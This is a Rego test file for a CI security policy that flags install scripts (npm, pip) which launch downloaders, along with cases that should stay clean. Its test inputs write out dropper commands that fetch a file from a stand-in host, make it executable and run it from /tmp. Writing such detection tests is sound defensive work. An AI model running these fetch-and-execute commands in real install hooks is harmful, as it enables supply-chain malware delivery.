package sallyport.policies.install_script_downloads_test

import data.sallyport.policies.install_script_downloads

process(arguments) := {
	"executable": sprintf("/usr/bin/%s", [arguments[0]]), "script": "", "arguments": arguments, "executable_sha256": "",
	"executable_in_memory": false, "executable_deleted": false, "working_directory": "/home/runner/work/shop/shop", "uid": 1001, "effective_uid": 1001,
}

run(arguments, ancestry) := {
	"behaviour": {"kind": "exec", "program": arguments[0], "target": sprintf("/usr/bin/%s", [arguments[0]])},
	"process": process(arguments), "ancestry": [process(a) | some a in ancestry], "job": {"event": "push", "repository": "acme/shop", "action": ""},
	"baseline": {"stable": true, "known": true, "program_known": true, "reopened": ""},
}

test_droppers_are_caught if {
	every chain in [
		[["sh", "-c", "sh preinstall.sh"], ["npm", "install"]], [["node", "setup.js"], ["sh", "-c", "node setup.js"], ["npm", "ci"]], [["python3", "setup.py", "install"], ["pip", "install", "x"]],
	] {
		count(install_script_downloads.violation) == 1 with input as run(["curl", "-so", "x", "http://203.0.113.9/x"], chain)
		count(install_script_downloads.violation) == 1 with input as run(["sh", "-c", "wget -q http://203.0.113.9/x -O /tmp/x && chmod +x /tmp/x"], chain)
		count(install_script_downloads.violation) == 1 with input as object.union(run(["jsextension"], chain), {"process": {"executable": "/tmp/jsextension"}})
	}
}

test_installs_without_a_downloader_are_clean if {
	every arguments in [["node", "install.js"], ["sh", "-c", "node-gyp rebuild"], ["make", "-C", "build"], ["g++", "-c", "x.cc"], ["git", "clone", "x"], ["python3", "setup.py", "bdist_wheel"]] {
		count(install_script_downloads.violation) == 0 with input as run(arguments, [["sh", "-c", "x"], ["npm", "ci"]])
	}
}

test_downloader_of_a_step_is_clean if {
	count(install_script_downloads.violation) == 0 with input as run(["curl", "-sSfO", "https://x.example.test/x"], [["bash", "-e", "step.sh"]])
	count(install_script_downloads.violation) == 0 with input as run(["bash", "-c", "curl https://x.example.test | tar x && npm ci"], [["bash", "-e", "step.sh"]])
}

test_program_that_configure_tries_is_clean if {
	given := object.union(run(["conftest"], [["sh", "./configure"], ["pip", "install", "x"]]), {"process": {"executable": "/tmp/conftest"}})
	count(install_script_downloads.violation) == 0 with input as given
}
